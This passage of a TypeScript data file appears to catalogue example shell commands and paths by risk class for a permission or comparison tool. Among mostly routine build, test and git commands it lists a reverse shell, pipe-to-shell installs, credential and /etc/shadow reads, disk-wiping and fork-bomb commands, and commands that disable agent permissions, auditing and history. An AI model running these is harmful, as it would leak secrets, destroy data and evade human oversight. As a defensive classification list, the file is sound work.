// Lists real commands, paths, hosts and names by class, from which comparisons choose examples that people recognise.
// Written for this project; paths stand in the default situation: /home/u/proj is the current directory, /home/u the home.
import type { Risk } from './risks.ts';

/** One example text, its class and what such a call can do. */
export interface Entry {
  readonly subject: 'command' | 'cmdlet' | 'path' | 'host' | 'tool' | 'agent' | 'skill';
  readonly text: string;
  readonly group: string;
  readonly risk: Risk | null;
}

interface Row extends Omit<Entry, 'text'> {
  /** Texts with two blanks or a line end between them. */
  readonly texts: string;
}

const ROWS: readonly Row[] = [
  {
    subject: 'cmdlet',
    group: 'powershell',
    risk: 'executes code',
    texts: `
Get-ChildItem  Get-Content README.md  Set-Location src  Get-Process  Get-Item README.md  Test-Path README.md  Select-String login README.md
Remove-Item -Recurse build  Remove-Item notes.txt  Set-Content notes.txt hi  New-Item out -ItemType Directory  Copy-Item a.txt b.txt  Move-Item a.txt b.txt
Invoke-WebRequest https://example.com  Invoke-RestMethod https://example.com  Invoke-Expression x  Start-Process notepad  Stop-Process -Name node
npm test  npm run build  git status  git push origin main  dotnet build  dotnet test  python script.py  docker ps  terraform apply  az login  curl https://example.com`,
  },
  {
    subject: 'command',
    group: 'test',
    risk: 'executes code',
    texts: `
npm test  npm run test  npm run test:unit  npm run test:e2e -- --headed  yarn test  yarn test --watch  pnpm test  pnpm run test
pnpm -r test  npx jest  npx jest --coverage  npx vitest run  npx playwright test  npx cypress run  npx mocha  bun test
deno test --allow-read  jest  vitest  pytest  pytest -q tests/unit  pytest -k login  python -m pytest  python3 -m pytest tests
python -m unittest discover  tox -e py312  nox -s tests  poetry run pytest  uv run pytest  hatch run test  coverage run -m pytest
coverage report  cargo test  cargo test --workspace  cargo nextest run  go test ./...  go test -race ./internal/...
go test -run TestLogin ./auth  make test  make check  make test-unit  ./gradlew test  gradle test  ./gradlew :app:test  mvn test
mvn -q verify  ./mvnw test  dotnet test  dotnet test --no-build  bundle exec rspec  rspec spec/models  rake test  bin/rails test  rails test
phpunit  vendor/bin/phpunit  composer test  mix test  sbt test  swift test  xcodebuild test -scheme App  bazel test //...
ctest --output-on-failure  flutter test  dart test  elm-test  stack test  cabal test  zig build test  lein test  busted  just test
task test  turbo run test  nx test web  npx nx affected --target=test  lerna run test  ./scripts/test.sh  ./test.sh  bats tests`,
  },
  {
    subject: 'command',
    group: 'build',
    risk: 'executes code',
    texts: `
npm run build  npm run dev  npm start  npm run start:dev  npm run watch  npm run compile  npm run generate  yarn build  yarn dev  yarn start
pnpm build  pnpm run build  pnpm dev  pnpm -F web build  bun run build  bun run dev  deno task build  make  make build  make all  make clean
make -j8  cmake --build build  cmake -S . -B build  ninja -C build  cargo build  cargo build --release  cargo run  cargo check
go build ./...  go run ./cmd/server  go generate ./...  ./gradlew build  ./gradlew assemble  gradle build  mvn package  mvn clean install
./mvnw package  dotnet build  dotnet run  dotnet publish -c Release  tsc  tsc --noEmit  tsc -p .  npx tsc --noEmit  vite build
npx vite build  next build  npx next build  webpack --mode production  npx webpack  esbuild src/index.ts --bundle  rollup -c
parcel build index.html  gulp build  grunt build  bazel build //...  buck2 build //app  swift build  xcodebuild -scheme App
flutter build apk  sbt compile  mix compile  composer dump-autoload  bundle exec rake build  rake build  gcc -o app main.c  g++ main.cpp
clang -c main.c  javac Main.java  rustc main.rs  zig build  stack build  cabal build  just build  task build  turbo run build  nx build web
./configure --prefix=/usr/local  meson setup build  hugo  mkdocs build  sphinx-build docs build  protoc --go_out=. api.proto  buf generate
ng build  ng serve  expo start  ./build.sh`,
  },
  {
    subject: 'command',
    group: 'lint',
    risk: 'executes code',
    texts: `
npm run lint  npm run lint:fix  npm run format  npm run typecheck  yarn lint  pnpm lint  npx eslint .  eslint src --fix  eslint .
npx prettier --check .  prettier --write src  npx prettier --write .  npx biome check  biome format --write  stylelint "src/**/*.css"
black .  black --check src  ruff check .  ruff check --fix  ruff format  isort .  flake8 src  pylint app  mypy .  mypy src  pyright
cargo clippy  cargo clippy -- -D warnings  cargo fmt  cargo fmt --check  gofmt -w .  gofmt -l .  go vet ./...  go fmt ./...
golangci-lint run  rubocop -A  rubocop  bundle exec rubocop  standardrb  shellcheck scripts/deploy.sh  hadolint Dockerfile  yamllint .
markdownlint README.md  terraform fmt -check  tflint  checkov -d .  pre-commit run --all-files  swiftlint  swiftformat .  ktlint
checkstyle -c style.xml src  php-cs-fixer fix  phpstan analyse  mix format  mix credo  dotnet format  clang-format -i main.c
clang-tidy main.c  actionlint  semgrep scan`,
  },
  {
    subject: 'command',
    group: 'interpreters',
    risk: 'executes code',
    texts: `
node script.js  node scripts/build.js  node -e "console.log(1)"  node index.js  node --test  node dist/cli.js --help  deno run main.ts
bun run index.ts  python script.py  python3 scripts/migrate.py  python -c "print(1)"  python3 -c "print(1)"  python -m http.server 8000
python3 -m venv .venv  python manage.py migrate  python3 manage.py runserver  python setup.py build  ruby script.rb  ruby -e "puts 1"
perl -e "print 1"  perl script.pl  php artisan migrate  php -r "echo 1;"  php index.php  lua main.lua  Rscript analysis.R  julia main.jl
java -jar app.jar  groovy build.groovy  bash script.sh  bash -c "echo hi"  sh install.sh  sh -c "make install"  zsh -c "echo hi"  ./run.sh
./scripts/deploy.sh staging  ./bin/setup  eval "$CMD"  source .venv/bin/activate  . ./env.sh  exec bash  xargs rm  npx ts-node script.ts
npx tsx src/main.ts  ts-node script.ts  osascript -e "beep"  pwsh -c Get-Date  powershell -Command Get-Date  awk "{print $1}" data.txt
tclsh script.tcl  uvx ruff  ipython  irb`,
  },
  {
    subject: 'command',
    group: 'packages',
    risk: 'executes code',
    texts: `
npm install  npm ci  npm install lodash  npm i -g typescript  npm uninstall lodash  npm update  npm audit  npm audit fix  npm ls
npm outdated  npm view react version  npm init -y  npm exec eslint  npm pkg get name  npm link  npm run prepare  yarn install
yarn add lodash  yarn remove lodash  yarn dlx create-app  pnpm install  pnpm add -D vitest  pnpm remove lodash  pnpm dlx cowsay  pnpm list
bun install  bun add zod  npx create-react-app web  npx cowsay hi  npx prisma generate  npx prisma migrate dev  pip install requests
pip install -r requirements.txt  pip3 install flask  pip list  pip freeze  pip show requests  pip uninstall flask
python -m pip install -U pip  pipx install poetry  poetry install  poetry add httpx  poetry lock  uv sync  uv pip install ruff  uv add httpx
uv run main.py  conda install numpy  conda env create -f env.yml  pipenv install  cargo add serde  cargo install ripgrep  cargo update
go get example.com/mod@latest  go mod tidy  go mod download  go install ./...  gem install bundler  bundle install  bundle update
composer install  composer require monolog/monolog  mix deps.get  dotnet add package Serilog  nuget restore  mvn dependency:tree
./gradlew dependencies  brew install jq  brew upgrade  apt-get install -y curl  apt-get update  apt install git  apt-cache policy git
dnf install git  yum install git  apk add curl  pacman -S git  snap install code  choco install git  winget install Git.Git  nix-shell -p jq
asdf install  mise install  nvm use 20  fnm use 20  rustup update  sdk install java  volta install node  corepack enable  pod install
flutter pub get`,
  },
  {
    subject: 'command',
    group: 'git reads',
    risk: null,
    texts: `
git status  git status --short  git diff  git diff HEAD~1  git diff --stat  git diff --staged  git log  git log --oneline -10
git log -p src  git show HEAD  git show HEAD:README.md  git branch  git branch -a  git branch --show-current  git blame src/main.ts
git remote -v  git tag  git tag -l  git ls-files  git rev-parse HEAD  git describe --tags  git stash list  git stash show  git reflog
git shortlog -sn  git cat-file -p HEAD  git config --list  git config --get user.name  git grep login  git worktree list
git ls-remote origin  git merge-base main HEAD  git fetch  git fetch origin  git fetch --all --prune  git for-each-ref  git submodule status
git bisect log  git whatchanged  git -C sub status  git --version`,
  },
  {
    subject: 'command',
    group: 'git writes',
    risk: null,
    texts: `
git add .  git add -A  git add src/main.ts  git commit -m "Fix the login"  git commit -am "wip"  git commit --amend --no-edit
git checkout main  git checkout -b feature/login  git checkout -- src/main.ts  git switch main  git switch -c fix  git restore src/main.ts
git restore --staged .  git branch feature/login  git branch -m new-name  git merge main  git merge --no-ff feature  git rebase main
git rebase -i HEAD~3  git rebase --continue  git cherry-pick abc123  git revert HEAD  git stash  git stash pop  git stash push -m wip
git pull  git pull origin main  git pull --rebase  git clone https://github.com/acme/app.git  git init  git tag v1.0.0  git mv a.ts b.ts
git rm old.ts  git apply fix.patch  git am fix.patch  git submodule update --init  git worktree add ../wt main
git config user.email dev@acme.com  git config --global user.name Dev  git remote add upstream https://github.com/acme/app.git  git lfs pull
git notes add -m x  git bisect start  git sparse-checkout set src  git gc`,
  },
  {
    subject: 'command',
    group: 'git publishes',
    risk: 'publishes or deploys',
    texts: `
git push  git push origin main  git push origin HEAD  git push -u origin feature/login  git push --tags  git push --force  git push -f
git push --force-with-lease  git push origin main --force  git push origin --delete old  git push origin :old  git push --mirror
git push origin master  git push --no-verify  git push upstream main  git send-email *.patch  gh pr create  gh pr merge 12
gh release create v1.0.0  git svn dcommit`,
  },
  {
    subject: 'command',
    group: 'git destroys',
    risk: 'destroys',
    texts: `
git reset --hard  git reset --hard HEAD~1  git reset HEAD~1  git reset --hard origin/main  git clean -fd  git clean -fdx  git clean -n
git branch -D feature/login  git branch -d old  git tag -d v1.0.0  git stash drop  git stash clear  git checkout .  git checkout -f main
git restore .  git filter-branch --all  git filter-repo --path secrets  git reflog expire --expire=now --all  git update-ref -d HEAD
git worktree remove ../wt  git rm -rf .`,
  },
  {
    subject: 'command',
    group: 'github',
    risk: null,
    texts: `
gh pr list  gh pr view 12  gh pr diff 12  gh pr checks  gh pr checkout 12  gh pr status  gh pr comment 12 --body ok
gh pr review 12 --approve  gh pr close 12  gh issue list  gh issue view 7  gh issue create --title bug  gh issue comment 7 --body ok
gh issue close 7  gh run list  gh run view 123 --log  gh run watch  gh run rerun 123  gh workflow list  gh workflow run ci.yml
gh release list  gh release view v1.0.0  gh repo view  gh repo clone acme/app  gh repo create acme/new  gh repo delete acme/old
gh repo list  gh api repos/acme/app  gh api user  gh api graphql -f query=x  gh auth status  gh auth login  gh auth token  gh secret list
gh secret set TOKEN  gh gist create notes.md  gh search code login  gh browse  gh label list  gh variable list  gh cache list
gh extension list  gh codespace list  hub pull-request  glab mr list  glab mr create  glab ci view`,
  },
  {
    subject: 'command',
    group: 'network',
    risk: 'network egress',
    texts: `
curl https://example.com  curl -s https://api.example.com/v1/users  curl -fsSL https://example.com/install.sh
curl -X POST https://api.example.com/v1/items  curl -X DELETE https://api.example.com/v1/items/1  curl -d @data.json https://api.example.com
curl -I https://example.com  curl http://localhost:3000  curl http://localhost:8080/health  curl localhost:3000
curl -o out.zip https://example.com/a.zip  curl --upload-file a.tgz https://example.com  curl http://169.254.169.254/latest/meta-data/
curl -H "Authorization: Bearer x" https://api.example.com  curl -k https://example.com  curl --version
curl https://example.com/install.sh | sh  curl -fsSL https://example.com/install.sh | bash  wget -qO- https://example.com/install.sh | sh
wget https://example.com/a.tar.gz  wget -q https://example.com/file  wget -O out.html https://example.com  wget --mirror https://example.com
http GET https://example.com  https example.com  xh https://example.com  aria2c https://example.com/a.iso  lynx -dump https://example.com
nc -l 4444  nc example.com 80  nc -e /bin/sh 10.0.0.1 4444  ncat example.com 443  netcat example.com 80  telnet example.com 23
socat TCP:example.com:80 -  ping example.com  ping -c 1 example.com  traceroute example.com  dig example.com  nslookup example.com
host example.com  whois example.com  nmap -sV 10.0.0.0/24  nmap example.com  tcpdump -i eth0  openssl s_client -connect example.com:443
ftp example.com  sftp deploy@example.com  ngrok http 3000  cloudflared tunnel run  wscat -c wss://example.com  grpcurl example.com:443 list
mitmproxy  tshark  iperf3 -c example.com`,
  },
  {
    subject: 'command',
    group: 'remote',
    risk: 'network egress',
    texts: `
ssh deploy@example.com  ssh -i key.pem ubuntu@10.0.0.5  ssh host uptime  ssh-keygen -t ed25519  ssh-add  ssh-copy-id host
ssh-keyscan github.com  scp build.tgz deploy@example.com:/srv  scp host:/var/log/app.log .  rsync -av dist/ host:/srv/app
rsync -av src/ backup/  rsync --delete a/ b/  mosh host  tailscale status  tailscale ssh host  rclone copy data remote:bucket
restic backup data  borg create repo::a data  ansible all -m ping  ansible-playbook site.yml  ansible-vault view secrets.yml  fab deploy
salt "*" test.ping  puppet apply site.pp  chef-client  knife node list`,
  },
  {
    subject: 'command',
    group: 'containers',
    risk: 'executes code',
    texts: `
docker ps  docker ps -a  docker images  docker build -t app .  docker build .  docker run --rm app  docker run -it ubuntu bash
docker run --privileged app  docker run -v /:/host alpine  docker exec -it web sh  docker exec web env  docker logs -f web  docker logs web
docker inspect web  docker pull nginx  docker stop web  docker start web  docker restart web  docker rm -f web  docker rmi app
docker cp web:/app/log .  docker network ls  docker volume ls  docker volume rm data  docker system prune -af  docker system df
docker stats  docker top web  docker login  docker tag app acme/app:1  docker info  docker compose up -d  docker compose down
docker compose down -v  docker compose logs web  docker compose ps  docker compose build  docker compose exec web sh
docker compose run --rm web test  docker-compose up  docker-compose down  docker-compose logs  docker buildx build .  docker context ls
docker version  podman ps  podman run alpine  podman build .  buildah bud .  skopeo copy a b  nerdctl ps  crictl ps  kind create cluster
minikube start  colima start  k3d cluster create  vagrant up  vagrant destroy -f  vagrant ssh  devcontainer up  lima list
docker container prune -f  docker image prune -a`,
  },
  {
    subject: 'command',
    group: 'publishes',
    risk: 'publishes or deploys',
    texts: `
npm publish  npm publish --access public  npm version patch  npm unpublish app  npm deprecate app old  yarn publish  yarn npm publish
pnpm publish  cargo publish  twine upload dist/*  python -m twine upload dist/app.whl  poetry publish  uv publish  gem push app.gem
mvn deploy  ./gradlew publish  dotnet nuget push app.nupkg  docker push acme/app:1  docker push ghcr.io/acme/app  podman push acme/app
helm push app.tgz oci://registry  vercel deploy --prod  vercel --prod  vercel  netlify deploy --prod  netlify deploy  fly deploy
flyctl deploy  heroku releases  railway up  render deploys list  firebase deploy  wrangler deploy  wrangler publish  npx wrangler deploy
serverless deploy  sls deploy  sam deploy  cdk deploy  npx cdk deploy  pulumi up  eb deploy  amplify push  gcloud app deploy
gcloud run deploy web  az webapp up  cap production deploy  make deploy  make release  npm run deploy  npm run release  yarn deploy
pnpm deploy  ./deploy.sh  ./scripts/release.sh  goreleaser release  semantic-release  npx semantic-release  changeset publish
kubectl apply -f k8s/  kubectl rollout restart deploy/web  helm upgrade --install web chart  helm install web chart  argocd app sync web
flux reconcile  terraform apply  terraform apply -auto-approve  tofu apply  terragrunt apply  nomad job run web.nomad  fastlane release
eas submit  vsce publish  surge dist  gh-pages -d dist  aws s3 sync dist s3://acme-web  skaffold run  kustomize build overlays/prod
waypoint up  kamal deploy  dokku apps:list`,
  },
  {
    subject: 'command',
    group: 'kubernetes',
    risk: null,
    texts: `
kubectl get pods  kubectl get pods -A  kubectl get svc -n prod  kubectl get all  kubectl get nodes  kubectl describe pod web
kubectl logs web  kubectl logs -f deploy/web  kubectl exec -it web -- sh  kubectl exec web -- env  kubectl port-forward svc/web 8080:80
kubectl cp web:/app/log .  kubectl config get-contexts  kubectl config use-context prod  kubectl config view  kubectl top pods
kubectl explain pod  kubectl version  kubectl scale deploy/web --replicas=0  kubectl edit deploy web  kubectl patch deploy web -p x
kubectl create ns demo  kubectl run tmp --image=alpine  kubectl drain node1  kubectl cordon node1  kubectl auth can-i list pods
kubectl rollout status deploy/web  kubectl rollout undo deploy/web  kubectl label pod web a=b  kubectl annotate pod web a=b  helm list
helm status web  helm template chart  helm get values web  helm repo update  helm lint chart  helm rollback web 1  k9s  stern web
kubectx prod  oc get pods`,
  },
  {
    subject: 'command',
    group: 'cluster destroys',
    risk: 'destroys',
    texts: `
kubectl delete pod web  kubectl delete ns prod  kubectl delete -f k8s/  kubectl delete deploy --all  kubectl replace --force -f pod.yml
helm uninstall web  helm delete web  terraform destroy  terraform destroy -auto-approve  terraform state rm aws_s3_bucket.a  tofu destroy
pulumi destroy  cdk destroy  sls remove  aws s3 rm s3://acme-data --recursive  aws s3 rb s3://acme-data --force
aws ec2 terminate-instances --instance-ids i-1  aws rds delete-db-instance --db-instance-identifier db
aws cloudformation delete-stack --stack-name web  aws iam delete-user --user-name dev  gcloud projects delete acme
gcloud compute instances delete vm  gcloud sql instances delete db  gsutil rm -r gs://acme-data  az group delete -n rg  az vm delete -n vm
heroku apps:destroy web  fly apps destroy web  eksctl delete cluster prod  doctl droplet delete web  linode-cli linodes delete 1
vercel remove web  firebase projects:delete  wrangler delete  kind delete cluster`,
  },
  {
    subject: 'command',
    group: 'cloud',
    risk: null,
    texts: `
aws s3 ls  aws s3 ls s3://acme-data  aws s3 cp file.txt s3://acme-data  aws s3 cp s3://acme-data/a .  aws sts get-caller-identity
aws configure  aws configure list  aws ec2 describe-instances  aws ec2 run-instances --image-id ami-1  aws iam list-users
aws iam create-user --user-name dev  aws iam attach-user-policy --user-name dev  aws lambda list-functions
aws lambda invoke --function-name f out.json  aws lambda update-function-code --function-name f  aws logs tail /aws/lambda/f
aws cloudformation describe-stacks  aws cloudformation deploy --stack-name web  aws ecs list-clusters  aws ecs update-service --service web
aws eks list-clusters  aws rds describe-db-instances  aws dynamodb scan --table-name t  aws sqs list-queues  aws sns publish --message hi
aws ecr get-login-password  aws route53 list-hosted-zones  aws ssm start-session --target i-1  aws sso login  aws-vault exec prod
gcloud auth list  gcloud auth login  gcloud config list  gcloud projects list  gcloud compute instances list  gcloud compute ssh vm
gcloud container clusters list  gcloud run services list  gcloud functions deploy f  gcloud builds submit  gcloud logging read error
gcloud storage ls  gsutil ls  gsutil cp a gs://acme-data  bq query "select 1"  bq ls  az login  az account show  az group list  az vm list
az storage blob list  az aks get-credentials  az acr login  az webapp list  az functionapp list  doctl droplet list  heroku logs --tail
heroku run bash  heroku config  fly status  fly logs  fly ssh console  vercel ls  vercel env pull  netlify status  supabase start
supabase db push  firebase emulators:start  wrangler dev  eksctl get cluster  ibmcloud target  oci os bucket list  openstack server list
linode-cli linodes list  ec2-metadata  cf apps  sam build  sam local invoke  cdk synth  cdk diff`,
  },
  {
    subject: 'command',
    group: 'infrastructure',
    risk: null,
    texts: `
terraform init  terraform plan  terraform plan -out tf.plan  terraform validate  terraform fmt  terraform show  terraform output
terraform state list  terraform import aws_s3_bucket.a a  terraform workspace list  terraform refresh  terraform console
terraform providers  terraform version  terraform taint x  tofu init  tofu plan  terragrunt plan  terragrunt run-all plan  pulumi preview
pulumi stack ls  pulumi config  packer build image.pkr.hcl  packer validate .  nomad status  consul members  vault status  vault login
consul kv get app  ansible-lint  molecule test  serverless info  crossplane version  atlantis version`,
  },
  {
    subject: 'command',
    group: 'secrets',
    risk: 'reads secrets',
    texts: `
cat .env  cat .env.local  cat .env.production  head .env  tail .env  less .env  grep KEY .env  cat config/secrets.yml  cat secrets/token.txt
cat secrets.json  cat ~/.ssh/id_rsa  cat ~/.ssh/config  cat ~/.aws/credentials  cat ~/.netrc  cat ~/.npmrc  cat ~/.kube/config
cat ~/.docker/config.json  cat ~/.gnupg/secring.gpg  cat /etc/shadow  cat /proc/self/environ  cat server.key  cat cert.pem  base64 .env
cp .env /tmp/x  source .env  env  printenv  printenv AWS_SECRET_ACCESS_KEY  set  export  echo $GITHUB_TOKEN  echo $AWS_SECRET_ACCESS_KEY
export TOKEN=x  security find-generic-password -s app  security dump-keychain  op read op://vault/item/field  op item get db  pass show db
gopass show db  bw get password db  vault kv get secret/app  vault read secret/app  aws secretsmanager get-secret-value --secret-id db
aws ssm get-parameter --name db --with-decryption  gcloud secrets versions access latest --secret=db  az keyvault secret show --name db
kubectl get secrets  kubectl get secret db -o yaml  kubectl describe secret db  doppler secrets  infisical secrets  sops -d secrets.yml
gpg --decrypt a.gpg  gpg --export-secret-keys  gh auth token  gcloud auth print-access-token  aws configure get aws_secret_access_key
git credential fill  ssh-keygen -y -f id_rsa  keyring get app user  chamber read app  history  cat ~/.bash_history  strings core
heroku config:get TOKEN  vercel env ls  docker inspect web  kubectl config view --raw  ansible-vault decrypt secrets.yml`,
  },
  {
    subject: 'command',
    group: 'destroys',
    risk: 'destroys',
    texts: `
rm -rf build  rm -rf node_modules  rm -rf dist  rm notes.txt  rm -f out.log  rm -r old  rm -rf .  rm -rf ./*  rm -rf *  rm -rf ~
rm -rf ~/old  rm -rf /  rm -rf /*  rm -rf /var/lib/app  rm -rf /tmp/x  rm -fr build  rm -r -f build  rm --recursive --force build  rm .env
rm -rf .git  rm -rf $HOME  rm *.log  rmdir empty  unlink notes.txt  sudo rm -rf /var/lib/app  find . -name "*.log" -delete
find . -type f -exec rm {} +  shred -u key.pem  truncate -s 0 app.log  dd if=/dev/zero of=/dev/sda  dd if=image.iso of=/dev/sdb
mkfs.ext4 /dev/sdb1  mkfs /dev/sdb  fdisk /dev/sda  parted /dev/sda  wipefs -a /dev/sdb  diskutil eraseDisk JHFS+ x disk2  format C:
srm key.pem  trash notes.txt  del /s /q build  rd /s /q build  rimraf dist  npx rimraf dist  docker system prune -a --volumes  dropdb app
mysql -e "DROP DATABASE app"  psql -c "DROP TABLE users"  psql -c "DELETE FROM users"  redis-cli FLUSHALL
mongosh --eval "db.dropDatabase()"  crontab -r  userdel dev  kill -9 1  killall node  pkill -f server  shutdown -h now  reboot  halt
poweroff  init 0  systemctl stop nginx  :(){ :|:& };:  mv notes.txt /dev/null  chmod -R 777 /  chown -R root /`,
  },
  {
    subject: 'command',
    group: 'databases',
    risk: null,
    texts: `
psql  psql -h localhost -U app  psql -c "select 1"  psql app -f schema.sql  pg_dump app  pg_restore app.dump  createdb app  mysql -u root
mysql -e "select 1"  mysqldump app  sqlite3 app.db  sqlite3 app.db "select 1"  redis-cli get key  redis-cli ping  redis-cli keys "*"
mongosh  mongosh --eval "db.users.find()"  mongodump  mongo app  influx  npx prisma studio  npx prisma db push  npx prisma migrate deploy
npx prisma migrate reset  npx knex migrate:latest  npx sequelize db:migrate  npx drizzle-kit push  alembic upgrade head
alembic downgrade -1  python manage.py makemigrations  python manage.py shell  rails db:migrate  rails db:drop  rails console
bin/rails db:migrate  rake db:migrate  flyway migrate  liquibase update  dbt run  dbt test  goose up  sqlx migrate run  diesel migration run
clickhouse-client  duckdb data.db  snowsql  cqlsh  bq show`,
  },
  {
    subject: 'command',
    group: 'system',
    risk: 'executes code',
    texts: `
sudo apt-get install nginx  sudo systemctl restart nginx  sudo ls  sudo -i  sudo su  sudo cat /etc/shadow  sudo make install
sudo chmod 777 /etc/passwd  sudo -u postgres psql  sudo reboot  su -  su root  doas ls  chmod +x script.sh  chmod 755 bin/run
chmod 777 file  chmod -R 777 .  chmod 0777 file  chown dev file  chown -R dev:dev .  chgrp dev file  systemctl status nginx
systemctl restart nginx  systemctl list-units  systemctl enable nginx  service nginx restart  journalctl -u nginx -f  journalctl -xe  dmesg
launchctl list  launchctl load a.plist  crontab -l  crontab -e  at now  useradd dev  usermod -aG sudo dev  passwd  passwd dev  visudo
groupadd dev  mount /dev/sdb1 /mnt  umount /mnt  swapoff -a  iptables -L  iptables -F  ufw disable  ufw status
sysctl -w net.ipv4.ip_forward=1  modprobe x  insmod x.ko  setenforce 0  sysctl -a  ln -s /etc/passwd x  ln -sf a b  kill 1234  kill -9 1234
pkill node  nohup npm start  screen -S s  tmux new -s s  tmux attach  renice 5 1234  ulimit -n 4096  defaults write com.app k v
defaults read  reg add HKCU\\Software\\x  netsh advfirewall set allprofiles state off  schtasks /create  sc stop x  at -l  chsh -s /bin/zsh
hostnamectl set-hostname x  timedatectl  update-alternatives --list java  setx PATH x  open .  open https://example.com
xdg-open https://example.com  start .  code .  code --install-extension x  vim README.md  nano README.md  vi README.md  emacs README.md`,
  },
  {
    subject: 'command',
    group: 'reads',
    risk: null,
    texts: `
cat README.md  cat package.json  cat src/main.ts  cat CLAUDE.md  head -n 20 README.md  head README.md  tail -n 50 app.log  tail -f app.log
less README.md  more README.md  bat README.md  wc -l src/main.ts  sort names.txt  uniq names.txt  cut -d, -f1 data.csv  tr a-z A-Z
diff a.txt b.txt  comm a.txt b.txt  file image.png  stat README.md  jq . package.json  jq .name package.json  yq . values.yaml
xmllint a.xml  sed -n 1,20p README.md  nl README.md  tac app.log  rev names.txt  od -c a.bin  xxd a.bin  hexdump -C a.bin  strings app.bin
md5sum a.iso  sha256sum a.iso  shasum a.iso  cksum a.iso  base64 a.txt  column -t data.txt  paste a.txt b.txt  fold -w 80 README.md
cat /etc/hosts  cat /etc/passwd  cat /etc/os-release  cat /proc/cpuinfo  cat /var/log/syslog  cat ../other/README.md  tail /var/log/syslog
readlink -f a  realpath src  basename src/main.ts  dirname src/main.ts`,
  },
  {
    subject: 'command',
    group: 'lists',
    risk: null,
    texts: `
ls  ls -la  ls -l src  ls src  ls /etc  ls ..  ls ~  tree  tree -L 2  pwd  cd src  cd ..  cd /tmp  pushd src  popd  dirs  du -sh .
du -sh node_modules  df -h  find . -name "*.ts"  find src -type f  find . -type f -mtime -1  find / -name passwd  fd main  fd -e ts
grep -rn login src  grep login README.md  grep -r password .  rg login  rg -n login src  rg --files  ag login  ack login  which node
whereis git  type git  command -v node  locate passwd  man git  whoami  id  groups  hostname  uname -a  date  uptime  cal  arch  ps aux
ps -ef  top  htop  free -h  lsof -i :3000  lsof  pgrep node  netstat -an  ss -tlnp  ifconfig  ip addr  ip route  w  who  last  vmstat
iostat  nproc  lscpu  lsblk  env -i ls  node --version  node -v  npm --version  npm -v  python --version  python3 --version  go version
cargo --version  rustc --version  java -version  ruby --version  docker --version  echo hello  echo $PATH  printf "%s" hi  sleep 5  sleep 1
true  false  seq 10  yes  test -f README.md  expr 1 + 1  bc  time ls  watch ls  clear  tput cols  tty  stty -a  jobs  wait`,
  },
  {
    subject: 'command',
    group: 'writes',
    risk: null,
    texts: `
mkdir out  mkdir -p src/api  touch notes.txt  touch src/new.ts  cp a.txt b.txt  cp -r src backup  mv a.txt b.txt  mv src lib  ln -s a b
install -m 755 a bin  tee out.log  echo hi > notes.txt  echo hi >> notes.txt  cat a.txt > b.txt  sed -i s/a/b/ README.md
sed s/a/b/ README.md  sed -i "" s/a/b/ README.md  perl -pi -e s/a/b/ README.md  patch -p1 < fix.patch  split -l 100 data.csv
tar -czf a.tgz src  tar -xzf a.tgz  tar xf a.tar  zip -r a.zip src  unzip a.zip  gzip app.log  gunzip a.gz  7z x a.7z  xz a
cp secrets.txt /tmp/x  mv notes.txt /tmp  mkdir /opt/app  touch /etc/app.conf  echo x > /etc/hosts  echo x >> ~/.bashrc
cp a ~/.ssh/authorized_keys  tee /etc/app.conf  convert a.png b.jpg  ffmpeg -i a.mp4 b.gif  pandoc README.md -o a.pdf  dos2unix a.txt
iconv -f latin1 a.txt  rename s/a/b/ a.txt  mktemp  sqlite3 a.db .dump  xdg-mime default x`,
  },
  {
    subject: 'command',
    group: 'expansions',
    risk: 'executes code',
    texts: `
npm run $SCRIPT  git commit -m "$MSG"  echo $(date)  echo \`whoami\`  ls $DIR  curl $URL  cat $FILE  for f in *.ts; do echo $f; done
while true; do date; done  if true; then ls; fi  (cd src && ls)  { ls; pwd; }  ls && pwd  cd src && npm test  git add . && git commit -m wip
npm ci && npm test  npm test; ls  npm test || true  ls | grep ts  cat data.csv | sort | uniq -c  ps aux | grep node
npm test 2>&1 | tail -20  npm run dev &  sleep 10 &  FOO=1 npm test  NODE_ENV=test npm test  env FOO=1 npm test  timeout 60 npm test
time npm test  nice npm run build  nohup ./server &  sudo npm test  xargs -n1 echo  command npm test  /usr/bin/git status
diff <(ls a) <(ls b)  cat <<EOF  echo {a,b}  ls *.ts  rm $FILE  git push $REMOTE  python3 $SCRIPT  bash -c "$CMD"  docker run $IMAGE
ssh $HOST`,
  },
  {
    subject: 'command',
    group: 'agents',
    risk: 'disables oversight',
    texts: `
claude  claude -p "fix the tests"  claude --dangerously-skip-permissions  claude mcp add x  claude config set x y  codex exec x  gemini -p x
aider  cursor .  sed -i s/deny/allow/ .claude/settings.json  rm .claude/settings.json  echo x > .claude/settings.local.json
cat .claude/settings.json  git config core.hooksPath /dev/null  git commit --no-verify -m wip  set +o history  unset HISTFILE  auditctl -e 0
systemctl stop auditd  pkill osqueryd  launchctl unload agent.plist  history -c`,
  },
  {
    subject: 'command',
    group: 'mobile and desktop',
    risk: 'executes code',
    texts: `
adb devices  adb shell  adb install app.apk  adb logcat  xcrun simctl list  xcodebuild -list  pod update  fastlane test  flutter run
flutter analyze  react-native run-ios  npx expo start  npx cap sync  cordova build  emulator -list-avds  idevice_id -l  instruments -s
swift run  swift package update  electron .  tauri dev  npx tauri build  dart run`,
  },
  {
    subject: 'command',
    group: 'data and models',
    risk: 'executes code',
    texts: `
jupyter notebook  jupyter lab  python train.py  python3 train.py --epochs 3  torchrun train.py  accelerate launch train.py  nvidia-smi
huggingface-cli download gpt2  huggingface-cli login  ollama run llama3  ollama list  dvc pull  dvc push  mlflow ui  wandb login
spark-submit job.py  airflow dags list  prefect deploy  dagster dev  streamlit run app.py`,
  },
  {
    subject: 'path',
    group: 'source',
    risk: null,
    texts: `
/home/u/proj/src/main.ts  /home/u/proj/src/index.js  /home/u/proj/src/app.py  /home/u/proj/src/api/users.ts
/home/u/proj/src/components/Button.tsx  /home/u/proj/lib/util.rb  /home/u/proj/app/models/user.rb  /home/u/proj/cmd/server/main.go
/home/u/proj/internal/auth/token.go  /home/u/proj/pkg/log/log.go  /home/u/proj/main.go  /home/u/proj/main.py  /home/u/proj/index.html
/home/u/proj/server.js  /home/u/proj/packages/web/src/App.tsx  /home/u/proj/apps/api/src/main.ts  /home/u/proj/src/lib.rs
/home/u/proj/src/main/java/App.java  /home/u/proj/src/styles/main.css  /home/u/proj/scripts/build.sh  /home/u/proj/bin/run`,
  },
  {
    subject: 'path',
    group: 'tests',
    risk: null,
    texts: `
/home/u/proj/test/main.test.ts  /home/u/proj/tests/test_app.py  /home/u/proj/spec/models/user_spec.rb  /home/u/proj/src/main.test.ts
